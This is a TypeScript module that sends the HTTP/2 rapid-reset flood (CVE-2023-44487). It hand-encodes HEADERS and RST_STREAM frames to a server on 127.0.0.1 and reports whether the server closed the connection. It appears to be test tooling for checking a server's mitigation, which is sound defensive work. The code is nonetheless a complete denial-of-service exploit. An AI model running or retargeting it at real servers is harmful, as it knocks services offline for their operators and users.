/**
 * A raw HTTP/2 client that sends the rapid-reset pattern (CVE-2023-44487): HEADERS opening a
 * stream, then RST_STREAM cancelling it at once, over and over, without waiting for answers.
 * Frames are written by hand (RFC 9113 section 4.1) with a minimal HPACK block (RFC 7541):
 * indexed `:method GET`, `:scheme https`, `:path /` and a literal `:authority`.
 *
 * @module
 */

const PREFACE = new TextEncoder().encode("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const TYPE_HEADERS = 0x1;
const TYPE_RST_STREAM = 0x3;
const TYPE_SETTINGS = 0x4;
const FLAG_END_STREAM = 0x1;
const FLAG_END_HEADERS = 0x4;
const CANCEL = 0x8;

function frame(type: number, flags: number, streamId: number, payload: Uint8Array): Uint8Array {
  const out = new Uint8Array(9 + payload.length);
  out[0] = (payload.length >>> 16) & 0xff;
  out[1] = (payload.length >>> 8) & 0xff;
  out[2] = payload.length & 0xff;
  out[3] = type;
  out[4] = flags;
  new DataView(out.buffer).setUint32(5, streamId & 0x7fffffff);
  out.set(payload, 9);
  return out;
}

/** What a flood did. */
export interface FloodResult {
  /** Streams opened and reset. */
  readonly streams: number;
  /** Whether the server closed the connection (GOAWAY and/or EOF) before the end. */
  readonly isClosedByServer: boolean;
  /** Bytes the server sent back. */
  readonly bytesReceived: number;
}

/**
 * Opens one TLS connection with ALPN `h2` and sends `streams` HEADERS + RST_STREAM pairs in
 * batches of `batch`, reading whatever the server sends meanwhile.
 *
 * @param options Port on 127.0.0.1, authority, CA, stream count and batch size.
 * @returns What happened.
 */
export async function rapidReset(options: {
  readonly port: number;
  readonly authority: string;
  readonly caCerts: readonly string[];
  readonly streams: number;
  readonly batch?: number;
}): Promise<FloodResult> {
  const conn = await Deno.connectTls({
    hostname: "127.0.0.1",
    port: options.port,
    caCerts: [...options.caCerts],
    alpnProtocols: ["h2"],
  });
  const authority = new TextEncoder().encode(options.authority);
  // 0x82 :method GET, 0x87 :scheme https, 0x84 :path /, then :authority (static index 1) as a
  // literal without indexing.
  const block = new Uint8Array([0x82, 0x87, 0x84, 0x01, authority.length, ...authority]);
  const rst = new Uint8Array(4);
  new DataView(rst.buffer).setUint32(0, CANCEL);
  let bytesReceived = 0;
  let isClosedByServer = false;
  const reading = (async () => {
    const buffer = new Uint8Array(64 * 1024);
    try {
      for (;;) {
        const n = await conn.read(buffer);
        if (n === null) break;
        bytesReceived += n;
      }
    } catch {
      // reset
    }
    isClosedByServer = true;
  })();
  let streams = 0;
  try {
    await conn.write(PREFACE);
    await conn.write(frame(TYPE_SETTINGS, 0, 0, new Uint8Array(0)));
    const batch = options.batch ?? 100;
    for (let id = 1; streams < options.streams && !isClosedByServer; id += 2 * batch) {
      const parts: Uint8Array[] = [];
      for (let i = 0; i < batch && streams < options.streams; i++, streams++) {
        const streamId = id + 2 * i;
        parts.push(frame(TYPE_HEADERS, FLAG_END_HEADERS | FLAG_END_STREAM, streamId, block));
        parts.push(frame(TYPE_RST_STREAM, 0, streamId, rst));
      }
      const bytes = new Uint8Array(parts.reduce((sum, p) => sum + p.length, 0));
      let offset = 0;
      for (const part of parts) {
        bytes.set(part, offset);
        offset += part.length;
      }
      let written = 0;
      while (written < bytes.length) written += await conn.write(bytes.subarray(written));
    }
  } catch {
    isClosedByServer = true;
  }
  const isClosedEarly = isClosedByServer;
  try {
    conn.close();
  } catch {
    // already closed
  }
  await reading;
  return { streams, isClosedByServer: isClosedEarly, bytesReceived };
}
